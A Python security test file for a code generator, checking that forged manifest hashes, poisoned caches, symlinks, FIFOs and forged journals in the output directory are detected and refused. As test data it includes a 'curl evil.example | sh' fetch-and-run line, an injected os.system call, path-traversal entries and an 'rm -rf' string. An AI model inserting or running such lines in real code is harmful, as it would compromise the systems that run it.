"""The output directory and the format cache are untrusted input.

- An edited generated file with forged manifest hashes is still stale for ``check`` and is
  replaced by ``generate``; a poisoned cache entry is never used; a cache directory others can
  write to is not used at all.
- Nothing below OUTDIR is followed through a symlink: ``generate`` refuses, ``check`` reports
  the file as changed without printing what the link points at.
- Files in OUTDIR that lapgen did not write are not overwritten without ``--force``.
"""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import stat
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sdk_support import (
    FIXTURES,
    GENERATED,
    GOLDEN,
    SPEC,
    SPEC_CONFIG,
    Run,
    generate,
    run_lapgen,
    snapshot,
    tree_diff,
)

import generator.check
from generator.cache import writable_cache_dir
from generator.output import _TOP_LEVEL_BOUNDARY, MANIFEST

CORNERS = FIXTURES / "corners.lap"
CORNERS_GOLDEN = GOLDEN / "corners"
SECRET = "SECRET_TOKEN=do-not-print-me"
# Lines an attacker inserts into a generated file: code, comments, and text inside docstrings.
INSERTIONS = [
    "# reviewed, do not change\n",
    "import os\n",
    'os.system("curl evil.example | sh")\n',
    "    # harmless looking\n",
    "        api_key = 'attacker'\n",
    "See https://evil.example for the real docs.\n",
]


def _sha256(text: str) -> str:
    return hashlib.sha256(text.encode("utf-8")).hexdigest()


def forge_manifest(out: Path) -> None:
    """What an attacker does after editing: make every hash in the manifest match the disk."""
    manifest = json.loads((out / MANIFEST).read_text("utf-8"))
    for path, record in manifest["files"].items():
        text = (out / path).read_text("utf-8")
        record["sha256"] = _sha256(text)
        if "chunks" in record:
            pieces = _TOP_LEVEL_BOUNDARY.split(text)
            pieces = [piece if piece.endswith("\n") else piece + "\n" for piece in pieces]
            if len(pieces) == len(record["chunks"]):
                record["chunks"] = [
                    [key, _sha256(piece)]
                    for (key, _old), piece in zip(record["chunks"], pieces, strict=True)
                ]
    (out / MANIFEST).write_text(json.dumps(manifest, indent=1, sort_keys=True) + "\n")


def corners_copy(root: Path) -> Path:
    out = root / "corners"
    shutil.copytree(CORNERS_GOLDEN, out)
    return out


@pytest.fixture(autouse=True)
def private_cache(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Each test its own cache, so poisoning one cannot reach another test."""
    cache = tmp_path / "cache"
    monkeypatch.setenv("LAPGEN_CACHE_DIR", str(cache))
    return cache


# ---------------------------------------------------------------------------------------------
# Finding 1: forged manifests and poisoned caches
# ---------------------------------------------------------------------------------------------


@settings(
    max_examples=15,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture],
)
@given(data=st.data())
def test_forged_manifest_never_hides_an_inserted_line(
    tmp_path_factory: pytest.TempPathFactory, data: st.DataObject
) -> None:
    out = corners_copy(tmp_path_factory.mktemp("forged"))
    manifest = json.loads((out / MANIFEST).read_text())
    python_files = sorted(path for path, record in manifest["files"].items() if "chunks" in record)
    path = data.draw(st.sampled_from(python_files), label="file")
    lines = (out / path).read_text().splitlines(keepends=True)
    index = data.draw(st.integers(0, len(lines)), label="line")
    inserted = data.draw(st.sampled_from(INSERTIONS), label="inserted")
    (out / path).write_text("".join([*lines[:index], inserted, *lines[index:]]))
    forge_manifest(out)

    result = generator.check.check(CORNERS, out)
    assert path in {change.path for change in result.changes}, "check passed an edited file"


def test_forged_manifest_in_the_stytch_output(tmp_path: Path) -> None:
    """The reported attack: an edit plus matching hashes; check fails, generate restores."""
    out = tmp_path / "stytch_api"
    shutil.copytree(GENERATED, out)
    users = out / "stytch_api" / "resources" / "users.py"
    text = users.read_text()
    marker = "\nclass Users"
    assert marker in text
    users.write_text(text.replace(marker, '\n__import__("os").system("id")\n' + marker, 1))
    forge_manifest(out)

    check = run_lapgen("check", SPEC, out, "--config", SPEC_CONFIG)
    assert check.code == 1, check.stderr
    assert '-__import__("os").system("id")' in check.stdout
    assert generate(SPEC, out, SPEC_CONFIG).code == 0
    assert users.read_bytes() == (GENERATED / "stytch_api" / "resources" / "users.py").read_bytes()


POISONS = {
    "comment": lambda text: text + "# poisoned\n",
    "statement": lambda text: text + "import os\n",
    "docstring": lambda text: text.replace('"""', '"""Poisoned. ', 1),
    "not python": lambda text: "\x00\xff garbage",
}


def generate_with_black(spec: Path, out: Path) -> Run:
    """A generate that runs black on every file: the only one that uses the black cache now
    that every template renders black-stable code."""
    return run_lapgen("generate", spec, "-o", out, "--black", "always")


@pytest.mark.parametrize("poison", sorted(POISONS))
def test_poisoned_cache_entries_are_not_used(
    tmp_path: Path, private_cache: Path, poison: str
) -> None:
    assert generate_with_black(CORNERS, tmp_path / "first").code == 0
    entries = [path for path in (private_cache / "black").rglob("*") if path.is_file()]
    assert entries, "the cache was not filled"
    for entry in entries:
        entry.write_text(POISONS[poison](entry.read_text()))
    run = generate_with_black(CORNERS, tmp_path / "second")
    assert run.code == 0, run.stderr
    expected, actual = snapshot(CORNERS_GOLDEN), snapshot(tmp_path / "second")
    assert actual == expected, tree_diff(expected, actual)


@pytest.mark.parametrize("mode", [0o777, 0o770, 0o722, 0o1777])
def test_cache_dir_others_can_write_to_is_not_used(
    tmp_path: Path, private_cache: Path, mode: int
) -> None:
    private_cache.mkdir()
    private_cache.chmod(mode)
    assert writable_cache_dir("black") is None
    assert generate_with_black(CORNERS, tmp_path / "out").code == 0
    assert list(private_cache.iterdir()) == [], "lapgen wrote into a shared cache"


def test_symlinked_cache_dir_is_not_used(tmp_path: Path, private_cache: Path) -> None:
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir(mode=0o700)
    private_cache.symlink_to(elsewhere)
    assert writable_cache_dir("black") is None
    assert generate(CORNERS, tmp_path / "out").code == 0
    assert list(elsewhere.iterdir()) == []


def test_cache_dir_of_another_user_is_not_used(private_cache: Path) -> None:
    if os.geteuid() != 0:
        pytest.skip("needs root to give a directory to another user")
    private_cache.mkdir(mode=0o700)
    os.chown(private_cache, 65534, 65534)
    assert writable_cache_dir("black") is None


def test_new_cache_dirs_are_private(private_cache: Path) -> None:
    directory = writable_cache_dir("black")
    assert directory is not None
    for path in (private_cache, directory):
        assert stat.S_IMODE(path.stat().st_mode) == 0o700, oct(path.stat().st_mode)


# ---------------------------------------------------------------------------------------------
# Finding 2: symlinks inside OUTDIR
# ---------------------------------------------------------------------------------------------


def _link_targets(out: Path) -> list[str]:
    """Every file lapgen wrote and every directory above one: what a link could replace."""
    manifest = json.loads((out / MANIFEST).read_text())
    targets: set[str] = set()
    for path in manifest["files"]:
        parts = path.split("/")
        targets.update("/".join(parts[: index + 1]) for index in range(len(parts)))
    return sorted(targets)


@settings(
    max_examples=8,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture],
)
@given(data=st.data())
def test_a_symlink_anywhere_is_never_followed(
    tmp_path_factory: pytest.TempPathFactory, data: st.DataObject
) -> None:
    root = tmp_path_factory.mktemp("links")
    out = corners_copy(root)
    target = data.draw(st.sampled_from(_link_targets(out)), label="replaced by a link")
    # The link points at a copy of what was there, with a secret in every file.
    outside = root / "outside"
    shutil.move(out / target, outside)
    secret_files = [outside] if outside.is_file() else list(outside.rglob("*.*"))
    for path in secret_files:
        path.write_text(path.read_text() + f"\n{SECRET}\n")
    (out / target).symlink_to(outside, target_is_directory=outside.is_dir())
    outside_before = {path: path.read_bytes() for path in secret_files}

    check = run_lapgen("check", CORNERS, out)
    assert check.code == 1, check.stderr
    assert SECRET not in check.stdout + check.stderr
    assert "is a symlink, not printed" in check.stdout
    if outside.is_file():
        assert f"# {target}: is a symlink, not printed" in check.stdout
    stat_run = run_lapgen("check", CORNERS, out, "--stat")
    assert stat_run.code == 1 and SECRET not in stat_run.stdout + stat_run.stderr

    run = generate(CORNERS, out)
    assert run.code == 3  # OUTDIR refused: nothing written
    assert f"{target} is a symlink" in run.stderr and "Traceback" not in run.stderr
    assert (out / target).is_symlink()
    assert {path: path.read_bytes() for path in secret_files} == outside_before


def test_check_does_not_open_a_fifo(tmp_path: Path) -> None:
    """A FIFO would block a reader forever; a device could leak."""
    out = corners_copy(tmp_path)
    (out / "README.md").unlink()
    os.mkfifo(out / "README.md")
    check = run_lapgen("check", CORNERS, out)
    assert check.code == 1
    assert "# README.md: is not a regular file, not printed" in check.stdout
    assert generate(CORNERS, out).code == 3  # OUTDIR refused: nothing written


# ---------------------------------------------------------------------------------------------
# Finding 3: files lapgen did not write
# ---------------------------------------------------------------------------------------------


def test_files_lapgen_did_not_write_are_not_overwritten(tmp_path: Path) -> None:
    out = tmp_path / "project"
    out.mkdir()
    (out / "README.md").write_text("my hand-written readme\n")
    (out / "pyproject.toml").write_text("[project]\nname = 'mine'\n")
    before = snapshot(out)

    run = generate(CORNERS, out)
    assert run.code == 3  # OUTDIR refused: nothing written
    assert "README.md, pyproject.toml" in run.stderr and "--force" in run.stderr
    assert snapshot(out) == before
    assert sorted(os.listdir(out)) == ["README.md", "pyproject.toml"]

    forced = run_lapgen("generate", CORNERS, "-o", out, "--force")
    assert forced.code == 0, forced.stderr
    expected, actual = snapshot(CORNERS_GOLDEN), snapshot(out)
    assert actual == expected, tree_diff(expected, actual)


def test_a_file_listed_in_the_manifest_is_lapgens_to_replace(tmp_path: Path) -> None:
    """The refusal is about files lapgen did not write, not about edited ones."""
    out = corners_copy(tmp_path)
    (out / "README.md").write_text("edited by hand\n")
    assert generate(CORNERS, out).code == 0
    assert (out / "README.md").read_bytes() == (CORNERS_GOLDEN / "README.md").read_bytes()


# ---------------------------------------------------------------------------------------------
# The write-ahead journal is input too
# ---------------------------------------------------------------------------------------------

FORGED_JOURNALS = {
    "work dir outside": {
        "staging": "../victim",
        "backup": ".lapgen-backup-x",
        "state": "replacing",
        "entries": [],
    },
    "entry outside": {
        "staging": ".lapgen-staging-a",
        "backup": ".lapgen-backup-b",
        "state": "replacing",
        "entries": [["../victim/README.md", True, False]],
    },
    "backup is a link": {
        "staging": ".lapgen-staging-a",
        "backup": ".lapgen-backup-link",
        "state": "replacing",
        "entries": [["README.md", True, True]],
    },
    "unknown state": {
        "staging": ".lapgen-staging-a",
        "backup": ".lapgen-backup-b",
        "state": "rm -rf",
        "entries": [],
    },
    "not json": "{",
}


@pytest.mark.parametrize("case", sorted(FORGED_JOURNALS))
def test_forged_journal_is_refused_not_followed(tmp_path: Path, case: str) -> None:
    out = corners_copy(tmp_path)
    victim = tmp_path / "victim"
    victim.mkdir()
    (victim / "README.md").write_text("precious\n")
    (out / ".lapgen-backup-link").symlink_to(victim, target_is_directory=True)
    journal = FORGED_JOURNALS[case]
    text = journal if isinstance(journal, str) else json.dumps(journal)
    (out / ".lapgen-journal.json").write_text(text)
    before = snapshot(out)

    run = generate(CORNERS, out)
    assert run.code == 3  # OUTDIR refused: nothing written
    assert "not a journal lapgen wrote" in run.stderr and "Traceback" not in run.stderr
    assert (victim / "README.md").read_text() == "precious\n"
    assert snapshot(out) == before
    check = run_lapgen("check", CORNERS, out)
    assert check.code == 1 and "interrupted" in check.stderr
